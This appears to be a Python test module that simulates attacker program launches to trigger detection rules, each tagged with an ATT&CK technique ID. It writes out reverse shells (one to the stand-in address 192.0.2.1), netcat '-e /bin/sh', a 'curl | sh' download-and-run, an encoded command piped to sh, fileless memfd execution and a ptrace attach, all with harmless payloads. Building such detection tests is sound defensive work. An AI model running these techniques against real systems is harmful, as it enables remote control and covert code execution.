"""Programs that are started as attackers start them."""

from action import Action, python, renamed

_MEMFD = """
import os, shutil
descriptor = os.memfd_create("attack")
with open("/usr/bin/true", "rb") as program:
    os.write(descriptor, program.read())
if not os.fork():
    os.execve(f"/proc/self/fd/{descriptor}", ["true"], {})
os.wait()
"""
_PTRACE = """
import ctypes, os, signal, time
child = os.fork()
if not child:
    time.sleep(60)
libc = ctypes.CDLL(None, use_errno=True)
assert libc.ptrace(16, child, None, None) == 0, os.strerror(ctypes.get_errno())
os.waitpid(child, 0)
libc.ptrace(17, child, None, None)
os.kill(child, signal.SIGKILL)
"""
_REVERSE_SHELL = """
import socket, subprocess
shell = "import os, socket, subprocess; s = socket.create_connection(('127.0.0.1', PORT)); "
shell += "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]; subprocess.run(['/bin/sh'])"
with socket.create_server(("127.0.0.1", 0)) as server:
    server.settimeout(60)
    taken = subprocess.Popen(["python3", "-c", shell.replace("PORT", str(server.getsockname()[1]))])
    connection, _ = server.accept()
    connection.sendall(b"echo $((6 * 7))\\nexit\\n")
    with connection.makefile() as answers:
        assert answers.readline() == "42\\n"
taken.wait()
"""
# Machines without curl get one in Python.
_DOWNLOAD = """
mkdir "$WORK/web"
echo 'touch "$WORK/ran"' > "$WORK/web/index.html"
python3 -u -m http.server --bind 127.0.0.1 --directory "$WORK/web" 0 > "$WORK/log" 2>&1 &
server=$!
trap 'kill $server' EXIT
until url=$(grep -o 'http://[^)]*' "$WORK/log" 2> /dev/null); do sleep 0.1; done
command -v curl > /dev/null || {
    echo '#!/usr/bin/python3' > "$WORK/curl"
    echo 'import sys, urllib.request; print(urllib.request.urlopen(sys.argv[-1]).read().decode())' >> "$WORK/curl"
    chmod 755 "$WORK/curl"
    PATH="$WORK:$PATH"
}
sh -c "curl -s $url | sh"
test -f "$WORK/ran"
"""

EXECUTION = (
    Action(
        "shell spawned by a server process",
        "T1190",
        ("Shell started by a server",),
        renamed("nginx", "-c 'sh -c true; true'"),
    ),
    Action(
        "reverse shell",
        "T1059.004",
        ("Reverse shell",),
        'echo "exec 3<>/dev/tcp/192.0.2.1/4444" > "$WORK/shell"; timeout 2 bash "$WORK/shell" 2> /dev/null || true',
    ),
    Action(
        "reverse shell in Python",
        "T1059.006",
        ("Shell bound to a connection by its arguments",),
        python(_REVERSE_SHELL),
    ),
    Action("netcat remote code execution", "T1059", ("Netcat runs a program",), renamed("nc", "-c true -e /bin/sh")),
    Action("download run at once", "T1105", ("Download run at once",), _DOWNLOAD),
    Action("encoded command", "T1027", ("Encoded command run",), "sh -c 'echo dHJ1ZQo= | base64 -d | sh'"),
    Action("memfd execution", "T1620", ("Fileless execution",), python(_MEMFD)),
    Action(
        "execution of a removed program",
        "T1620",
        ("Fileless execution",),
        python(
            "import os, shutil\n"
            "path = os.path.join(os.environ['WORK'], 'gone')\n"
            "shutil.copy('/usr/bin/true', path)\n"
            "descriptor = os.open(path, os.O_RDONLY)\n"
            "os.unlink(path)\n"
            "os.fork() or os.execve(f'/proc/self/fd/{descriptor}', ['true'], {})\n"
            "os.wait()"
        ),
    ),
    Action(
        "execution from /dev/shm",
        "T1059.004",
        ("Program run from an open folder",),
        "cp /usr/bin/true /dev/shm/attack && /dev/shm/attack; rm /dev/shm/attack",
        "cp /usr/bin/true /dev/shm/.attack && /dev/shm/.attack && rm /dev/shm/.attack",
        "/dev/shm is mounted noexec",
    ),
    Action(
        "drop and execute",
        "T1204.002",
        ("Program run from an open folder",),
        'printf \'#!/bin/sh\\ntrue\\n\' > "$OPEN/dropped"; chmod 755 "$OPEN/dropped"; "$OPEN/dropped"',
    ),
    Action("attack tool", "T1588.002", ("Attack tool started",), renamed("pspy64", "-c true")),
    Action("ptrace attach", "T1055.008", ("Process traced",), python(_PTRACE)),
)
